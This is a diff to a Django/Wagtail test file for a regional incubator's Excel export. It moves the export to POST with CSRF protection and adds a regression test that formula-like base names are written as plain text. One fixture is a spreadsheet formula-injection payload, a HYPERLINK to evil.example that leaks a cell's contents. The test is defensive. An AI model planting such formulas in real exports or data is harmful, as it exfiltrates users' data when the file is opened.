@@ -196,7 +196,7 @@ def test_the_menu_offers_the_dashboard(client, regions):
 
 def test_excel_export_has_chinese_headers_and_the_figures(client, dataset, regions):
     client.force_login(staff(Role.CALL_MANAGER, regions["city"]))
-    response = client.get("/admin/incubator/figures/export.xlsx")
+    response = client.post("/admin/incubator/figures/export.xlsx")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     assert "attachment" in response["Content-Disposition"]
@@ -226,6 +226,28 @@ def test_excel_export_has_chinese_headers_and_the_figures(client, dataset, regio
 
 def test_excel_export_is_scoped_too(client, dataset, regions):
     client.force_login(staff(Role.BASE_OPERATOR, regions["gulou"]))
-    wb = load_workbook(io.BytesIO(client.get("/admin/incubator/figures/export.xlsx").content))
+    wb = load_workbook(io.BytesIO(client.post("/admin/incubator/figures/export.xlsx").content))
     names = [r[0] for r in wb["各基地汇总"].iter_rows(min_row=2, values_only=True)]
     assert names == ["古楼街道共享工作站"]
+
+
+def test_excel_export_starts_only_on_post_and_the_dashboard_button_posts(client, dataset, regions):
+    client.force_login(staff(Role.CALL_MANAGER, regions["city"]))
+    assert client.get("/admin/incubator/figures/export.xlsx").status_code == 405
+    html = client.get("/admin/incubator/figures/").content.decode()
+    # Wagtail's w-action controller submits a POST form with the CSRF token
+    assert 'data-action="w-action#post"' in html
+    assert 'data-w-action-url-value="/admin/incubator/figures/export.xlsx"' in html
+    assert 'href="/admin/incubator/figures/export.xlsx"' not in html
+
+
+def test_excel_export_writes_a_formula_like_base_name_as_text(client, dataset, regions):
+    """Defect 4: a name starting with = must not become a live formula in the download."""
+    name = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
+    IncubationBase.objects.filter(name="古楼街道共享工作站").update(name=name)
+    client.force_login(staff(Role.CALL_MANAGER, regions["city"]))
+    wb = load_workbook(io.BytesIO(client.post("/admin/incubator/figures/export.xlsx").content))
+    for title in ("各基地汇总", "分年度"):
+        cells = [row[0] for row in wb[title].iter_rows(min_row=2) if row[0].value == name]
+        assert cells, title
+        assert all(c.data_type == "s" and c.quotePrefix for c in cells), title
